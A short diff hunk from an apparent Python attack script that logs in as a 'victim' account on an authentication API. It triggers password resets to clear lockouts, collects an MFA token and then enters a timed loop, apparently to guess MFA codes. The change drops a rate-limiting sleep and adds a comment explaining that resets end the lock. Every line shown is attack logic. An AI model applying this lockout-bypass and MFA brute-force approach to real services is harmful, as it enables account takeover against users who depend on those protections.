@@ -108,8 +108,7 @@ def main():
             resets += status == 204
             status, answer, _ = api.patient("POST", "/api/v1/auth/login", {"login": "victim", "password": PASSWORD})
             if status != 401 or answer.get("code") != "mfa_required":
-                time.sleep(1)
-                continue
+                continue  # locked out: the next reset ends the lock
             mfa_token = answer["mfa_token"]
             while time.time() < end:
                 status, answer, headers = api.patient(
